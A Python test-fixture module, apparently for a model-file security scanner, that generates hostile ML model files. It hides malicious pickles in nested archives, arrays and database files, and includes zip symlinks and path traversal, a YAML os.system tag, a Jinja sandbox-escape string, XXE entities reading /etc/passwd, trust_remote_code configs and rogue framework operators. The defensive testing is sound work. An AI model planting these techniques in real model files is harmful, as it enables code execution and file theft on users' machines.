"""Files of further formats and loaders: links out of the file, operators of delegates, code that a configuration names."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from typing import Any

from tests.scan.attacks.archives import npy, tarred, zipped
from tests.scan.attacks.configurations import gguf
from tests.scan.attacks.graphs import field
from tests.scan.attacks.pickles import EVIL, pickle

_HARMLESS = pickle(b"}")
_TAG = b"a: !!python/object/apply:os.system ['touch x']\n"
_ESCAPE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"


def packed_attacks() -> Iterator[tuple[str, bytes]]:
    """Yield containers in containers, and what lies behind the end of one."""
    inner = zipped([("m/data.pkl", EVIL)])
    yield "zip_in_tar.tar", tarred([("a/model.pt", inner)])
    yield "zip_in_tar_in_zip.zip", zipped([("x.tar", tarred([("a/model.pt", inner)]))], zipfile.ZIP_DEFLATED)
    yield "tar_in_xz_in_zip.zip", zipped([("x", lzma.compress(tarred([("w", EVIL)])))])
    yield "gzip_in_bzip2.bin", bz2.compress(gzip.compress(EVIL))
    yield "numpy_objects_in_gzip_in_tar.tar", tarred([("a.npy.gz", gzip.compress(npy("|O", EVIL)))])
    yield "zlib_small_window.pkl", _small_window(EVIL)
    yield "old_joblib.z", b"ZF" + f"{hex(len(EVIL)):19}".encode() + zlib.compress(EVIL)
    yield "lzma_other_properties.lzma", lzma.compress(
        EVIL, lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "lc": 0, "lp": 2, "pb": 0, "dict_size": 1 << 16}]
    )  # fmt: skip
    yield "second_array.npy", npy("<f4", b"\0" * 4) + npy("|O", EVIL)
    yield "pickle_behind_array.npy", npy("<f4", b"\0" * 4) + EVIL
    yield "data_of_other_name.pt", zipped([("x/weights.bin", EVIL), ("x/version", b"3\n"), ("x/data.pkl", _HARMLESS)])
    yield "corrupt_archive.pt", zipped([("m/data.pkl", EVIL)])[:60] + b"\0" * 40
    yield "deflated_corrupt.zip", zipped([("m/data.pkl", EVIL * 50)], zipfile.ZIP_DEFLATED)[:90]
    yield "link_in_zip.zip", _linked()
    yield "unicode_name.zip", _other_name()
    yield "v7.tar", _v7_tar()
    yield "pax_name.tar", _pax()
    yield "cpio.cpio", b"070701" + b"0" * 104 + b"model.pkl\0" + EVIL
    yield "ar.a", b"!<arch>\nmodel.pkl/      0           0     0     100644  60        `\n" + EVIL
    yield "cabinet.cab", b"MSCF\0\0\0\0" + b"\0" * 60
    yield "compress.pkl.Z", b"\x1f\x9d\x90" + b"\0" * 60
    yield "lzip.lz", b"LZIP\x01\x0c" + b"\0" * 60
    yield "lz4_legacy.pkl", b"\x02\x21\x4c\x18" + struct.pack("<I", len(EVIL)) + EVIL
    yield "zstandard_skippable.pkl", b"\x50\x2a\x4d\x18\4\0\0\0abcd\x28\xb5\x2f\xfd" + b"\0" * 40
    yield "snappy.pkl", b"\xff\x06\0\0sNaPpY" + b"\0" * 30
    yield "database.sqlite", b"SQLite format 3\0" + b"\0" * 4080 + b"\x0d\0\0\0" + EVIL + b"\0" * 300
    yield "lmdb.mdb", b"\0" * 16 + b"\xde\xc0\xef\xbe\1\0\0\0" + b"\0" * 4072 + EVIL + b"\0" * 300
    metadata = b"ARROW:extension:metadata\0" + EVIL
    yield "extension.arrow", b"ARROW1\0\0" + b"ARROW:extension:name\0arrow.py_extension_type\0" + metadata + b"ARROW1"
    yield "extension.parquet", b"PAR1" + b"ARROW:extension:name\0arrow.py_extension_type\0" + metadata + b"PAR1"
    yield "pickle_between_tensors.safetensors", _gap(EVIL)
    yield "attribute.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 88 + EVIL + b"\0" * 100


def _small_window(content: bytes) -> bytes:
    made = zlib.compressobj(9, zlib.DEFLATED, 9)
    return made.compress(content) + made.flush()


def _linked() -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        info = zipfile.ZipInfo("model/weights")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return data.getvalue()


def _other_name() -> bytes:
    """Return a zip whose member has another name in the field that some readers prefer."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        info = zipfile.ZipInfo("readme.txt")
        other = b"\x01" + struct.pack("<I", zlib.crc32(b"readme.txt")) + b"../../evil.py"
        info.extra = struct.pack("<HH", 0x7075, len(other)) + other
        archive.writestr(info, b"x")
    return data.getvalue()


def _v7_tar() -> bytes:
    content = bytearray(tarred([("model.pkl", EVIL)]))
    content[257:265] = b"\0" * 8
    content[148:156] = b" " * 8
    total = sum(content[:512])
    content[148:156] = b"%06o\0 " % total
    return bytes(content)


def _pax() -> bytes:
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w", format=tarfile.PAX_FORMAT) as archive:
        info = tarfile.TarInfo("a")
        info.pax_headers = {"path": "../../../home/user/.profile"}
        info.size = 1
        archive.addfile(info, io.BytesIO(b"x"))
    return data.getvalue()


def _gap(content: bytes) -> bytes:
    end = len(content) + 4
    entries = {"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}
    entries["b"] = {"dtype": "F32", "shape": [1], "data_offsets": [end, end + 4]}
    header = json.dumps(entries).encode()
    return struct.pack("<Q", len(header)) + header + b"\0" * 4 + content + b"\0" * 4


def named_code_attacks() -> Iterator[tuple[str, bytes]]:
    """Yield configurations that name code, or data of elsewhere, in ways of single libraries."""
    documents: dict[str, dict[str, Any]] = {
        "kernel_of_hub": {"model_type": "llama", "attn_implementation": "evil/kernel"},
        "kernel_of_hub_own": {"model_type": "llama", "_attn_implementation": "evil/kernel:attention"},
        "activation_by_name": {"in_features": 4, "out_features": 4, "activation_function": "os.abort"},
        "trusted_code": {"max_seq_length": 8, "model_args": {"trust_remote_code": True}},
        "shard_outside": {"metadata": {}, "weight_map": {"w": "../../../home/user/.cache/x.bin"}},
        "shard_absolute": {"metadata": {}, "weight_map": {"w": "/tmp/x.bin"}},
        "nested_template": {"x": {"tokenizer": {"chat_template": {"default": _ESCAPE}}}},
        "processor_map": {"auto_map": {"AutoProcessor": "processing_x.Evil"}},
    }
    for title, document in documents.items():
        yield f"{title}.json", json.dumps(document).encode()
    yield "tags_in_other_file.cfg", _TAG
    yield "tags_without_name", _TAG
    yield "tags_in_text.txt", b"# settings\n" + _TAG
    yield "deepspeed_target.conf", b"model:\n  _target_: os.system\n  command: touch x\n"
    yield "python_backend.pbtxt", b'name: "m"\nbackend: "python"\nmax_batch_size: 0\n'
    yield "template_without_name", f"{{% for m in messages %}}{_ESCAPE}{{% endfor %}}".encode()
    yield "template_in_text.txt", f"{{% for m in messages %}}{_ESCAPE}{{% endfor %}}".encode()
    yield "template_in_list.gguf", gguf({"tokenizer.chat_templates": "x", "general.description": _ESCAPE})
    yield "template_utf16.jinja", _ESCAPE.encode("utf-16")
    yield "entity.xml", b'<?xml version="1.0"?><!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net>&x;</net>'
    yield "entity.pmml", b'<!DOCTYPE p [<!ENTITY % x SYSTEM "http://host/x.dtd"> %x;]><PMML/>'
    yield "lambda_shorthand.json", json.dumps(
        {"class_name": "Functional", "config": {"layers": [{"module": "keras.layers", "class_name": "Lambda", "config": {
            "function": {"class_name": "function", "module": "keras.config", "config": "enable_unsafe_deserialization"}}}]}}
    ).encode()  # fmt: skip
    yield "idf_path.json", json.dumps(
        {"class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "IntegerLookup",
         "config": {"vocabulary": "file:///etc/passwd"}}]}}
    ).encode()  # fmt: skip
    yield "function_as_class.json", json.dumps(
        {"class_name": "Sequential", "config": {"layers": [
            {"module": "keras.utils", "class_name": "get_file", "config": {"fname": "x", "origin": "http://host/x"}}]}}
    ).encode()  # fmt: skip


def _node(kind: str) -> bytes:
    return field(1, field(1, "n") + field(2, kind))


def operator_attacks() -> Iterator[tuple[str, bytes]]:
    """Yield graphs under names that say nothing, and operators of delegates, runtimes and other frameworks."""
    graph = _node("Placeholder") + _node("WriteFile") + field(4, field(1, 1))
    saved = field(1, 1) + field(2, field(1, field(4, "other")) + field(2, graph))
    yield "frozen.bin", graph
    yield "frozen_without_ending", graph
    yield "saved_model.dat", saved
    external = (
        field(1, 4) + field(2, 1) + field(8, "w") + field(13, field(1, "location") + field(2, "../x")) + field(14, 1)
    )
    model = (
        field(1, 8)
        + field(2, "x")
        + field(7, field(2, "g") + field(5, external))
        + field(8, field(1, "") + field(2, 17))
    )
    yield "external_without_ending", model
    yield "external_in_other_file.bin", model
    yield "paddle.pdmodel", field(1, field(1, 0) + field(2, 0) + field(4, field(3, "py_func")))
    yield "flex.tflite", flex_model(b"FlexWriteFile")
    yield "flex_python.tflite", flex_model(b"FlexEagerPyFunc")
    yield "runtime_model.ort", runtime_model("com.evil", "Evil")
    yield "operator.pte", executorch_program(("evil::run", ""), "XnnpackBackend")
    yield "delegate.pte", executorch_program(("aten::add", "out"), "EvilBackend")


def flex_model(code: bytes) -> bytes:
    """Return a TFLite model with one operator of its own code."""
    import flatbuffers

    builder = flatbuffers.Builder(256)
    named = builder.CreateString(code.decode())
    builder.StartObject(4)
    builder.PrependInt8Slot(0, 32, 0)
    builder.PrependUOffsetTRelativeSlot(1, named, 0)
    builder.PrependInt32Slot(3, 32, 0)
    operator = builder.EndObject()
    builder.StartVector(4, 1, 4)
    builder.PrependUOffsetTRelative(operator)
    operators = builder.EndVector()
    builder.StartObject(5)
    builder.PrependUint32Slot(0, 3, 0)
    builder.PrependUOffsetTRelativeSlot(1, operators, 0)
    builder.Finish(builder.EndObject(), b"TFL3")
    return bytes(builder.Output())


def runtime_model(domain: str, kind: str) -> bytes:
    """Return a model of ONNX Runtime's own format with one node."""
    import flatbuffers

    builder = flatbuffers.Builder(256)
    home, name = builder.CreateString(domain), builder.CreateString(kind)
    builder.StartObject(14)
    builder.PrependUOffsetTRelativeSlot(2, home, 0)
    builder.PrependUOffsetTRelativeSlot(5, name, 0)
    node = builder.EndObject()
    builder.StartVector(4, 1, 4)
    builder.PrependUOffsetTRelative(node)
    nodes = builder.EndVector()
    builder.StartObject(8)
    builder.PrependUOffsetTRelativeSlot(3, nodes, 0)
    graph = builder.EndObject()
    builder.StartObject(10)
    builder.PrependUOffsetTRelativeSlot(7, graph, 0)
    model = builder.EndObject()
    builder.StartObject(4)
    builder.PrependUOffsetTRelativeSlot(1, model, 0)
    builder.Finish(builder.EndObject(), b"ORTM")
    return bytes(builder.Output())


def executorch_program(operator: tuple[str, str], backend: str) -> bytes:
    """Return a program of ExecuTorch with one operator and one delegate."""
    import flatbuffers

    builder = flatbuffers.Builder(256)
    name, overload, identity = (builder.CreateString(each) for each in (*operator, backend))
    builder.StartObject(2)
    builder.PrependUOffsetTRelativeSlot(0, name, 0)
    builder.PrependUOffsetTRelativeSlot(1, overload, 0)
    kernel = builder.EndObject()
    builder.StartObject(3)
    builder.PrependUOffsetTRelativeSlot(0, identity, 0)
    delegate = builder.EndObject()
    vectors = []
    for each in (kernel, delegate):
        builder.StartVector(4, 1, 4)
        builder.PrependUOffsetTRelative(each)
        vectors.append(builder.EndVector())
    own = builder.CreateString("forward")
    builder.StartObject(9)
    builder.PrependUOffsetTRelativeSlot(0, own, 0)
    builder.PrependUOffsetTRelativeSlot(6, vectors[0], 0)
    builder.PrependUOffsetTRelativeSlot(7, vectors[1], 0)
    plan = builder.EndObject()
    builder.StartVector(4, 1, 4)
    builder.PrependUOffsetTRelative(plan)
    plans = builder.EndVector()
    builder.StartObject(8)
    builder.PrependUOffsetTRelativeSlot(1, plans, 0)
    builder.Finish(builder.EndObject(), b"ET12")
    return bytes(builder.Output())
